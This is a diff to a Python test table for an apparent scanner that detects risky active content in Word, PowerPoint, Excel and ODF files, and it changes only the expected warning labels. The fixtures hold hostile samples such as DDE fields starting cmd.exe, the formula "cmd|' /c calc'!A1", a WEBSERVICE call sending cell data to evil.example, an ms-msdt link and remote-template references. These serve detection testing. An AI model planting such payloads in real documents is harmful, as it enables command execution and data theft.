@@ -62,13 +62,16 @@ def slide(body: str, *links: tuple[str, str, bool]) -> bytes:
 ACTIVE = {
     "dde.docx": (
         make_office(".docx", field("DDEAUTO c:\\\\Windows\\\\cmd.exe")),
-        "a field that loads or starts something (DDEAUTO)",
+        "a field, form or formula that loads or starts something (DDEAUTO)",
     ),
     "split-dde.docx": (
         make_office(".docx", field(" D", "DE", " cmd ")),
-        "a field that loads or starts something (DDE)",
+        "a field, form or formula that loads or starts something (DDE)",
     ),
-    "nested-dde.docx": (make_office(".docx", NESTED), "a field that loads or starts something (…)"),
+    "nested-dde.docx": (
+        make_office(".docx", NESTED),
+        "a field, form or formula that loads or starts something (…)",
+    ),
     "simple-dde.docx": (make_office(".docx", '<w:p><w:fldSimple w:instr="DDE cmd a"/></w:p>'), "(DDE)"),
     "includepicture.docx": (make_office(".docx", field(f'INCLUDEPICTURE "{EVIL}" \\d')), "(INCLUDEPICTURE)"),
     "includetext.docx": (make_office(".docx", field(f'INCLUDETEXT "{EVIL}"')), "(INCLUDETEXT)"),
@@ -83,23 +86,23 @@ ACTIVE = {
             links=(("aFChunk", "a.mht", False),),
             parts={"word/a.mht": "MIME"},
         ),
-        "an inserted document (a.mht)",
+        "an embedded object or file (a.mht)",
     ),
     "template.docx": (
         make_office(".docx", links=(("attachedTemplate", EVIL, True),)),
-        f"a part that is loaded from elsewhere ({EVIL})",
+        f"a connection to another file or website ({EVIL})",
     ),
     "picture.docx": (
         make_office(".docx", links=(("image", EVIL, True),)),
-        "a part that is loaded from elsewhere",
+        "a connection to another file or website",
     ),
     "picture-as-link.docx": (
         make_office(".docx", '<a:blip r:link="rId1"/>', links=(("hyperlink", EVIL, True),)),
-        "loaded from elsewhere (blip)",
+        "a connection to another file or website (blip)",
     ),
     "drawn.docx": (
         make_office(".docx", f'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="{EVIL}"/>'),
-        "loaded from elsewhere",
+        "a connection to another file or website",
     ),
     "file-link.docx": (
         make_office(".docx", '<w:hyperlink r:id="rId1"/>', links=(("hyperlink", "file:////evil/a", True),)),
@@ -113,7 +116,7 @@ ACTIVE = {
     ),
     "no-mode.docx": (
         make_office(".docx", links=(("image", "\\\\evil.example\\a.png", False),)),
-        "loaded from elsewhere",
+        "a connection to another file or website",
     ),
     "macros.docx": (
         make_office(
@@ -133,15 +136,15 @@ ACTIVE = {
             '<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" ProgID="Package"/></w:object>',
             parts={"word/embeddings/a.bin": b"\xd0\xcf\x11\xe0"},
         ),
-        "an embedded object (object)",
+        "an embedded object or file (object)",
     ),
     "package.docx": (
         make_office(
             ".docx", links=(("package", "embeddings/a.docx", False),), parts={"word/embeddings/a.docx": WORD}
         ),
-        "an embedded object",
+        "an embedded object or file",
     ),
-    "merge.docx": (make_office(".docx", "<w:mailMerge/>"), "a connection to other data"),
+    "merge.docx": (make_office(".docx", "<w:mailMerge/>"), "a connection to another file or website"),
     "program.docx": (
         make_office(".docx", parts={"word/media/a.png": b"MZ\x90"}),
         "a part of an unknown kind (word/media/a.png)",
@@ -153,31 +156,31 @@ ACTIVE = {
                 "word/media/a.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{EVIL}"/></svg>'
             },
         ),
-        "loaded from elsewhere",
+        "a connection to another file or website",
     ),
     "video.pptx": (
         slide('<a:videoFile r:link="rId1"/>', ("video", EVIL, True)),
-        f"a part that is loaded from elsewhere ({EVIL})",
+        f"a connection to another file or website ({EVIL})",
     ),
     "hover.pptx": (
         slide('<a:hlinkHover r:id="rId1"/>', ("hyperlink", EVIL, True)),
-        "loaded from elsewhere (hlinkHover)",
+        "a connection to another file or website (hlinkHover)",
     ),
     "program.pptx": (
         slide('<a:hlinkClick r:id="rId1" action="ppaction://program"/>', ("hyperlink", EVIL, True)),
-        "an action that starts a program",
+        "an action that starts a program or opens a website",
     ),
     "macro.pptx": (
         slide('<a:hlinkClick r:id="" action="ppaction://macro?name=a"/>'),
-        "an action that starts a program",
+        "an action that starts a program or opens a website",
     ),
     "control.pptx": (
         slide('<p:control r:id="rId1"/>', ("control", "../activeX/a.xml", False)),
-        "an ActiveX control",
+        "an embedded object or file",
     ),
     "addin.pptx": (
         make_office(".pptx", parts={"ppt/webextensions/a.xml": '<we:webextension xmlns:we="x"/>'}),
-        "an Office add-in",
+        "an embedded object or file",
     ),
     "chart.pptx": (
         make_office(
@@ -190,7 +193,7 @@ ACTIVE = {
                 "ppt/embeddings/a.xlsx": sheet("cmd|' /c calc'!A1"),
             },
         ),
-        "a formula that loads or starts something (DDE)",
+        "a field, form or formula that loads or starts something (DDE)",
     ),
     "connection.xlsx": (
         make_office(
@@ -198,7 +201,7 @@ ACTIVE = {
             links=(("connections", "connections.xml", False),),
             parts={"xl/connections.xml": f'<connections xmlns="{S}"><webPr url="{EVIL}"/></connections>'},
         ),
-        "a connection to other data (connections.xml)",
+        "a connection to another file or website (connections.xml)",
     ),
     "unlinked-connection.xlsx": (
         make_office(
@@ -206,7 +209,7 @@ ACTIVE = {
             parts={"xl/connections.xml": "<a/>"},
             types=f'<Override PartName="/xl/connections.xml" ContentType="{SHEET_TYPE}connections+xml"/>',
         ),
-        "a connection to other data (xl/connections.xml)",
+        "a connection to another file or website (xl/connections.xml)",
     ),
     "query.xlsx": (
         make_office(
@@ -215,14 +218,14 @@ ACTIVE = {
                 "customXml/item1.xml": '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
             },
         ),
-        "a connection to other data",
+        "a connection to another file or website",
     ),
     "pivot.xlsx": (
         make_office(
             ".xlsx",
             parts={"xl/pivotCache/a.xml": f'<pivot xmlns="{S}"><cacheSource type="external"/></pivot>'},
         ),
-        "a connection to other data",
+        "a connection to another file or website",
     ),
     "dde.xlsx": (
         make_office(
@@ -231,7 +234,7 @@ ACTIVE = {
                 "xl/externalLinks/a.xml": f'<externalLink xmlns="{S}"><ddeLink ddeService="cmd"/></externalLink>'
             },
         ),
-        "a connection to other data (ddeLink)",
+        "a connection to another file or website (ddeLink)",
     ),
     "web.xlsx": (sheet('_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)'), "(WEBSERVICE)"),
     "link-formula.xlsx": (sheet('HYPERLINK ( "ms-msdt:/id a","Page: 3")'), "(ms-msdt:/id a)"),
@@ -239,7 +242,7 @@ ACTIVE = {
     "image.xlsx": (sheet(f'_xlfn.IMAGE("{EVIL}")'), "(IMAGE)"),
     "other-book.xlsx": (
         sheet("'\\\\evil.example\\s\\[a.xlsx]B'!A1"),
-        "a formula that loads or starts something",
+        "a field, form or formula that loads or starts something",
     ),
     "macro-sheet.xlsx": (
         make_office(".xlsx", links=(("xlMacrosheet", "m.xml", False),), parts={"xl/m.xml": "<a/>"}),
@@ -251,15 +254,15 @@ ACTIVE = {
     ),
     "picture.odt": (
         make_odt(f'<draw:image xlink:href="{EVIL}"/>'),
-        f"a part that is loaded from elsewhere ({EVIL})",
+        f"a connection to another file or website ({EVIL})",
     ),
     "local.odt": (
         make_odt('<draw:image xlink:href="../../secret.png"/>'),
-        "a part that is loaded from elsewhere",
+        "a connection to another file or website",
     ),
     "section.odt": (
         make_odt(f'<text:section><text:section-source xlink:href="{EVIL}"/></text:section>'),
-        "loaded from elsewhere",
+        "a connection to another file or website",
     ),
     "listener.odt": (
         make_odt('<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a"/>'),
@@ -269,9 +272,12 @@ ACTIVE = {
         make_odt('<text:a xlink:href="vnd.sun.star.script:a?language=Basic">x</text:a>'),
         "a script or macro",
     ),
-    "dde.odt": (make_odt('<office:dde-source office:dde-application="cmd"/>'), "a connection to other data"),
-    "object.odt": (make_odt('<draw:object-ole xlink:href="./Object 1"/>'), "an embedded object"),
-    "frame.odt": (make_odt(f'<draw:floating-frame xlink:href="{EVIL}"/>'), "an embedded object"),
+    "dde.odt": (
+        make_odt('<office:dde-source office:dde-application="cmd"/>'),
+        "a connection to another file or website",
+    ),
+    "object.odt": (make_odt('<draw:object-ole xlink:href="./Object 1"/>'), "an embedded object or file"),
+    "frame.odt": (make_odt(f'<draw:floating-frame xlink:href="{EVIL}"/>'), "an embedded object or file"),
     "macros.odt": (
         make_odt(parts={"Basic/Standard/Module1.xml": "<a/>"}),
         "a script or macro (Basic/Standard/Module1.xml)",
